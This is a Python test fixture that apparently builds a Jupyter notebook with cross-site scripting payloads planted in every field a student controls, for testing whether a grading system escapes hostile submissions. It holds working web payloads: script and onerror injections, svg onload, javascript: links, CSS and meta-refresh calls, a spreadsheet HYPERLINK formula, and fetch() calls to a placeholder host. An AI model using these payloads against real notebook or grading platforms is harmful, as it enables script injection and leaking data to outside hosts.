"""A notebook, right in some of its exercises, with a script planted in every field of it that a student controls.

Each script tells by a dialog and by a request from which field it came.
"""

from __future__ import annotations

import copy

from courses import code, nbgrader, text
from hostile import CONTROL, HOST, MARKDOWN, SHOWS

DRAWN = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
FORMULA = f'=HYPERLINK("https://{HOST}/formula")'
BREAKS_OUT = "\"'></pre></code></td></textarea></title></style></script>-->"
ELSEWHERE = (
    f"<style>@import 'https://{HOST}/c.css'; body {{ background: url(https://{HOST}/b.png) }}</style>"
    f'<p style="background: url(https://{HOST}/k.png)">x</p><form action="https://{HOST}/p"><input autofocus></form>'
    f'<meta http-equiv="refresh" content="0; url=https://{HOST}/m"><base href="https://{HOST}/">'
    f'<object data="https://{HOST}/o"></object><embed src="https://{HOST}/e"><video src="https://{HOST}/v"></video>'
)


def does(field):
    """The script of a field."""
    return f"window.owned='{field}';alert('owned by {field}');fetch('https://{HOST}/{field}')"


def short(field):
    """Markup that runs the script in few characters, and without a slash."""
    return f"\"'><img src=x onerror=\"alert('owned by {field}')\">"


def planted(field):
    """Markup that runs the field's script, if any of it is taken for markup, and asks for much from elsewhere."""
    js = does(field)
    return (
        f'{BREAKS_OUT}<script>{js}</script><img src="https://{HOST}/{field}.png" onerror="{js}">'
        f'<svg onload="{js}"><script>{js}</script><image href="https://{HOST}/{field}.svg"/></svg>'
        f'<iframe srcdoc="<script>parent.{js}</script>"></iframe><a href="javascript:{js}">x</a>{ELSEWHERE}'
    )


RAISES = '''def {name}(*arguments):
    """{said}"""
    # {said}
    class Odd(Exception):
        pass
    Odd.__name__ = Odd.__qualname__ = {name_said!r}
    raise Odd({formula!r} + {said!r})
'''
ANSWERS = "def {name}(*arguments):\n    print({said!r})\n    return [{said!r}, {{{said!r}: {said!r}}}]\n"


def raising(name):
    """A function that raises what is planted, under a name that is."""
    said = planted("raised").replace('"', "'")
    return RAISES.format(name=name, said=said, name_said=planted("exception"), formula=FORMULA)


def answering(name):
    """A function that prints and returns what is planted."""
    return ANSWERS.format(name=name, said=planted("answer"))


def hostile(document):
    """The answered notebook (nbformat's JSON), planted with scripts wherever a student can write."""
    made = copy.deepcopy(document)
    made["metadata"] = {
        "title": planted("title"),
        "authors": [{"name": planted("author")}],
        "kernelspec": {"name": planted("kernel"), "display_name": planted("kernel"), "language": "python"},
        "language_info": {"name": planted("language"), "mimetype": planted("language")},
        "autograder": {"report": planted("report")},
    }
    for number, cell in enumerate(made["cells"]):
        cell["id"] = planted("cell-id") + str(number)
        cell["metadata"] |= {"tags": [planted("tag")], "name": planted("name"), planted("key"): planted("value")}
        if cell["cell_type"] == "code":
            cell["source"] = "".join(cell["source"]) + f"\n# {planted('comment')}"
            cell["outputs"] = outputs()
        elif cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = f"{FORMULA}\n\n{planted('by-hand')}\n\n" + "\n\n".join(MARKDOWN.values())
            cell["attachments"] = {planted("attached"): {"image/svg+xml": planted("attached-svg")}}
    made["cells"] += own()
    return made


def own():
    """Cells that the student has added."""
    shown = SHOWS.format(said=planted("shown"), js=does("shown-js"))
    drawn = f"import base64\ndisplay(Image(data=base64.b64decode({DRAWN!r}), format='png', alt={planted('alt')!r}))"
    raised = f"print({CONTROL + planted('printed')!r})\nraise ValueError({planted('raised-in-a-cell')!r})"
    cells = [
        text(planted("markdown")),
        *(text(said) for said in MARKDOWN.values()),
        code(shown),
        code(f"from IPython.display import *\n{drawn}\ndisplay(SVG({planted('svg')!r}))"),
        code(raised),
        code("1 + 1", nbgrader(planted("grade-id"), solution=True)),
        {"cell_type": "raw", "metadata": {"format": planted("raw-format")}, "source": planted("raw")},
    ]
    return [{**cell, "id": planted("own-cell-id") + str(number)} for number, cell in enumerate(cells)]


def outputs():
    """Outputs as a notebook keeps them, made up by the student."""
    rich = {
        "text/html": planted("output-html"),
        "image/svg+xml": planted("output-svg"),
        "image/png": f'x" onerror="{does("output-png")}',
        "text/markdown": planted("output-markdown"),
        "text/latex": "\\href{javascript:" + does("output-latex") + "}{x}",
        "application/javascript": does("output-javascript"),
        planted("mime"): planted("mime"),
    }
    traceback = [planted("traceback")]
    return [
        {"output_type": "display_data", "data": rich, "metadata": {planted("output-key"): planted("output-value")}},
        {"output_type": "stream", "name": planted("stream"), "text": planted("stream-text")},
        {"output_type": "error", "ename": planted("ename"), "evalue": planted("evalue"), "traceback": traceback},
    ]
